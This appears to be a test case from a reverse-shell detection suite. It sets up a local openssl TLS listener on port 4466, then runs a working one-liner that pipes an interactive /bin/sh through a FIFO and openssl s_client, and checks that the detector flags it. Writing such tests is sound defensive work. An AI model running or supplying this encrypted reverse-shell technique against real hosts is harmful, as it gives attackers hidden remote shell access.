# R12f: openssl carries a shell over TLS
# stage: equipped
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 2
#   reverse_shell.process_list.0.process_id: $openssl
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4466
#   reverse_shell.process_list.1.process_id: $shell

#: prepare
. lib/peers.sh
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=r -keyout \
  /tmp/r12f.key -out /tmp/r12f.pem 2> /dev/null
(hold | timeout 300 openssl s_server -quiet -accept 4466 -key /tmp/r12f.key -cert /tmp/r12f.pem) \
  > /dev/null 2>&1 &
await 'grep -q :1172.*:0000.0A /proc/net/tcp /proc/net/tcp6'
rm -f /tmp/r12f; mkfifo /tmp/r12f
#: act
. lib/peers.sh
act
(/bin/sh -i < /tmp/r12f 2>&1 | openssl s_client -quiet -connect 127.0.0.1:4466 > /tmp/r12f \
  2> /dev/null) < /dev/null > /dev/null 2>&1 &
who shell '/bin/sh -i'; who openssl 'openssl s_client.*'
await 'at $shell 0 /tmp/r12f && same $shell 1 $openssl 0 && at $openssl 3 socket:*'
#: clean
pkill -xf 'openssl s_.*' || true; rm -f /tmp/r12f*
